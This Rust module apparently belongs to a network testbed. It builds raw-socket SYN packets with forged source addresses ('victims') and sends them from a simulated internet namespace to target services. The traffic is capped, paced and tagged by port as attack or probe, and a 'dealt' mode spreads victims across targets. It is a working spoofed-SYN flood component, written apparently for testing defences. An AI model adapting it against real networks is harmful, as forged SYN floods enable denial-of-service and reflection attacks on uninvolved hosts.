//! Sends SYNs that name a victim as their source, from the world's namespace: a bounded number, at a
//! bounded rate.

use std::{
    net::{IpAddr, SocketAddr},
    os::fd::OwnedFd,
    sync::{
        Arc,
        atomic::{AtomicBool, AtomicU64, Ordering},
    },
    thread::{JoinHandle, sleep},
    time::{Duration, Instant},
};

use anyhow::{Context, Result, anyhow, ensure};
use rustix::net::{AddressFamily, SendFlags, SocketFlags, SocketType, ipproto, sendto, socket_with};

use crate::{counter::PROBE_PORTS, namespace::Namespace, packet};

/// Most SYNs that one plan may send: above this a veth pair loses some, and the kernel forgets entries.
pub const MAX_SYNS: u64 = 5_000;
/// The first port that an attack's SYNs come from.
const ATTACK_PORTS: u16 = 1_024;

/// What the SYNs are for; it decides the ports that they come from, and so what the counters say.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Purpose {
    /// The attack itself.
    Attack,
    /// To see whether a block holds.
    Probe,
}

/// Which victims' SYNs go to which targets.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Spread {
    /// Every victim's to every target.
    All,
    /// Each victim's to one target alone, as cards are dealt: none of them sees the whole.
    Dealt,
}

/// What to send.
#[derive(Clone, Debug)]
pub struct Plan {
    /// Whose address to put in.
    pub victims: Vec<IpAddr>,
    /// The services to send to; victims meet those of their own family only.
    pub targets: Vec<SocketAddr>,
    /// Who meets whom.
    pub spread: Spread,
    /// Rounds: each sends one SYN for each pair of victim and target that meet.
    pub rounds: u32,
    /// Time between two rounds.
    pub pace: Duration,
    /// What they are for.
    pub purpose: Purpose,
}

impl Plan {
    /// The pairs of victim and target that meet.
    pub fn pairs(&self) -> Vec<(IpAddr, SocketAddr)> {
        let (mut pairs, mut dealt) = (Vec::new(), [0, 0]);
        for victim in &self.victims {
            let met = self.targets.iter().filter(|target| target.is_ipv4() == victim.is_ipv4());
            let met: Vec<&SocketAddr> = met.collect();
            let turn = &mut dealt[usize::from(victim.is_ipv6())];
            let mine = match self.spread {
                Spread::All => met.as_slice(),
                Spread::Dealt => met.chunks(1).nth(*turn % met.len().max(1)).unwrap_or(&[]),
            };
            pairs.extend(mine.iter().map(|target| (*victim, **target)));
            *turn += 1;
        }
        pairs
    }
}

/// SYNs on their way. Dropping it stops the sending.
pub struct Flood {
    worker: Option<JoinHandle<Result<()>>>,
    stop: Arc<AtomicBool>,
    sent: Arc<AtomicU64>,
}

impl Flood {
    /// Starts to send, and returns with the moment just before the first SYN.
    ///
    /// # Errors
    /// The plan is over [`MAX_SYNS`], or there are no raw sockets.
    pub fn start(internet: &Namespace, plan: Plan) -> Result<(Self, Instant)> {
        let pairs = plan.pairs();
        let total = pairs.len() as u64 * u64::from(plan.rounds);
        ensure!(total <= MAX_SYNS, "a plan may send at most {MAX_SYNS} SYNs, not {total}");
        let stop = Arc::new(AtomicBool::new(false));
        let sent = Arc::new(AtomicU64::new(0));
        let (stopped, count) = (Arc::clone(&stop), Arc::clone(&sent));
        let sockets = internet.run(Sockets::open)??;
        let first = Instant::now();
        let worker = std::thread::spawn(move || send_all(&sockets, &plan, &pairs, &stopped, &count));
        Ok((Self { worker: Some(worker), stop, sent }, first))
    }

    /// How many SYNs are out.
    pub fn sent(&self) -> u64 {
        self.sent.load(Ordering::Relaxed)
    }

    /// Whether everything is out.
    pub fn is_done(&self) -> bool {
        self.worker.as_ref().is_none_or(JoinHandle::is_finished)
    }

    /// Waits for the last SYN, and says how many there were.
    ///
    /// # Errors
    /// One could not be sent.
    pub fn finish(mut self) -> Result<u64> {
        if let Some(worker) = self.worker.take() {
            worker.join().map_err(|_| anyhow!("the spoofer panicked"))??;
        }
        Ok(self.sent())
    }

    /// Stops at once, and says how many were sent.
    ///
    /// # Errors
    /// One could not be sent.
    pub fn stop(self) -> Result<u64> {
        self.stop.store(true, Ordering::Relaxed);
        self.finish()
    }
}

impl Drop for Flood {
    fn drop(&mut self) {
        self.stop.store(true, Ordering::Relaxed);
        if let Some(worker) = self.worker.take() {
            let _told_already = worker.join();
        }
    }
}

/// Raw sockets take the IP header as it is given. They stay in the namespace in which they were opened.
struct Sockets {
    v4: OwnedFd,
    v6: OwnedFd,
}

impl Sockets {
    fn open() -> Result<Self> {
        let open = |family| {
            socket_with(family, SocketType::RAW, SocketFlags::CLOEXEC, Some(ipproto::RAW))
                .context("cannot open a raw socket (CAP_NET_RAW)")
        };
        Ok(Self { v4: open(AddressFamily::INET)?, v6: open(AddressFamily::INET6)? })
    }

    fn send(&self, from: SocketAddr, to: SocketAddr, sequence: u32) -> Result<()> {
        let packet = packet::syn(from, to, sequence).context("victim and target differ in family")?;
        let socket = if to.is_ipv4() { &self.v4 } else { &self.v6 };
        // For raw IPv6 sockets the port field is a protocol number, and must be 0.
        sendto(socket, &packet, SendFlags::empty(), &SocketAddr::new(to.ip(), 0))
            .with_context(|| format!("cannot send a SYN from {from} to {to}"))?;
        Ok(())
    }
}

fn send_all(
    sockets: &Sockets,
    plan: &Plan,
    pairs: &[(IpAddr, SocketAddr)],
    stop: &AtomicBool,
    sent: &AtomicU64,
) -> Result<()> {
    let start = Instant::now();
    let (low, high) = match plan.purpose {
        Purpose::Attack => (ATTACK_PORTS, PROBE_PORTS - 1),
        Purpose::Probe => (PROBE_PORTS, u16::MAX),
    };
    // A port of its own for each round: the same four-tuple again would be one handshake, not two.
    let ports = (low..=high).cycle();
    for (round, port) in (0..plan.rounds).zip(ports) {
        let due = plan.pace * round;
        while start.elapsed() < due {
            if stop.load(Ordering::Relaxed) {
                return Ok(());
            }
            sleep((due - start.elapsed().min(due)).min(Duration::from_millis(20)));
        }
        for (victim, target) in pairs {
            if stop.load(Ordering::Relaxed) {
                return Ok(());
            }
            sockets.send(SocketAddr::new(*victim, port), *target, 0x5e_0000 + round)?;
            sent.fetch_add(1, Ordering::Relaxed);
        }
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn plan(spread: Spread) -> Plan {
        Plan {
            victims: ["203.0.113.1", "203.0.113.2", "2001:db8:bad::1", "203.0.113.3"]
                .map(|text| text.parse().unwrap())
                .into(),
            targets: ["198.51.100.11:80", "[2001:db8:51::11]:80", "198.51.100.12:80"]
                .map(|text| text.parse().unwrap())
                .into(),
            spread,
            rounds: 1,
            pace: Duration::ZERO,
            purpose: Purpose::Attack,
        }
    }

    fn names(spread: Spread) -> Vec<String> {
        plan(spread).pairs().iter().map(|(victim, target)| format!("{victim} {target}")).collect()
    }

    #[test]
    fn everybody_meets_everybody_or_just_one() {
        assert_eq!(names(Spread::All).len(), 3 * 2 + 1);
        assert_eq!(
            names(Spread::Dealt),
            [
                "203.0.113.1 198.51.100.11:80",
                "203.0.113.2 198.51.100.12:80",
                "2001:db8:bad::1 [2001:db8:51::11]:80",
                "203.0.113.3 198.51.100.11:80"
            ]
        );
        let nobody = Plan { targets: Vec::new(), ..plan(Spread::Dealt) };
        assert!(nobody.pairs().is_empty());
    }
}
